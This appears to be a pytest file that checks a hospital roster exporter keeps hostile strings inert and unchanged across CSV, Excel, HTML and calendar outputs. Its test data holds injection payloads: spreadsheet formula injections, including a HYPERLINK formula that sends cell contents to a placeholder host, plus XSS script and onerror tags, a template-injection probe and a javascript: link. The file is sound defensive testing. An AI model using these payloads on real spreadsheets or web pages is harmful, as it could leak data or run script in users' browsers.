"""The same awkward texts through every export: shown as typed, run by nothing, and back letter for letter."""

import csv
import html
import re
from pathlib import Path

import openpyxl
import pytest

from data.spreadsheet_text import unguard_text
from reports.write import write_reports
from tests.reports.run_sample import sample_tables, write_sample_run
from tests.reports.sample_hospital import DAYS

TEXTS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"rota")',
    "@SUM(1)",
    "+441632960000",
    "-1+1",
    "\t=1+1",
    "=1+1",
    "＝1+1",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    'O\'Brien "Ann" & Co',
    "{{7*7}}",
    "[x](javascript:alert(3))",
    "'=already marked",
    "{=SUM(A1)}",
    "https://x.invalid",
    "0017",
    "1e5",
    "a; b, c\nsecond line",
    "_x000D_",
    "$x$ & {} \\",
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run in which every text is the id and the name of somebody in one unit."""
    tables = sample_tables()
    person, shift = tables["people"].to_pylist()[10], tables["roster"].to_pylist()[0]
    given = {
        "people": [person | {"staff_id": text, "name": text} for text in TEXTS],
        "roster": [shift | {"staff_id": text, "unit_id": person["unit_id"]} for text in TEXTS],
        "changes": [
            {"staff_id": text, "date": DAYS[0], "before": None, "after": f"after {number}"}
            for number, text in enumerate(TEXTS)
        ],
        "forecast": [],
    }
    made = write_sample_run(tmp_path_factory.mktemp("runs"), tables=given)
    write_reports(made)
    return made


def test_csv_gives_every_text_back_and_none_starts_a_formula(folder: Path) -> None:
    with (folder / "roster.csv").open(encoding="utf-8", newline="") as file:
        cells = [row["staff_id"] for row in csv.DictReader(file)]
    assert sorted(unguard_text(cell) for cell in cells) == sorted(TEXTS)
    assert not any(cell.lstrip()[:1] in set("=+-@＝") for cell in cells)


def test_workbook_holds_every_text_as_text(folder: Path) -> None:
    sheet = openpyxl.load_workbook(folder / "roster.xlsx")["Notaufnahme Süd"]
    for column in (1, 3):
        found = {sheet.cell(row, column).value for row in range(1, sheet.max_row + 1)}
        assert set(TEXTS) <= found
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


@pytest.mark.parametrize(("number", "text"), list(enumerate(TEXTS)))
def test_page_shows_the_text_as_typed(folder: Path, number: int, text: str) -> None:
    page = (folder / "report.html").read_text(encoding="utf-8")
    row = page[: page.index(f">after {number}<")].rpartition("<tr>")[2]
    cells = [html.unescape(cell) for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, flags=re.DOTALL)]
    assert cells[:2] == ["Mon 19 Oct", text]


def test_everybody_has_a_calendar_in_their_name(folder: Path) -> None:
    names = set()
    for path in (folder / "calendars").iterdir():
        unfolded = path.read_bytes().replace(b"\r\n ", b"").decode()
        names.add(next(line for line in unfolded.split("\r\n") if line.startswith("X-WR-CALNAME:")))
    escaped = {re.sub(r"([\\;,])", r"\\\1", text).replace("\n", "\\n") for text in TEXTS}
    assert names == {f"X-WR-CALNAME:Shifts of {text}" for text in escaped}
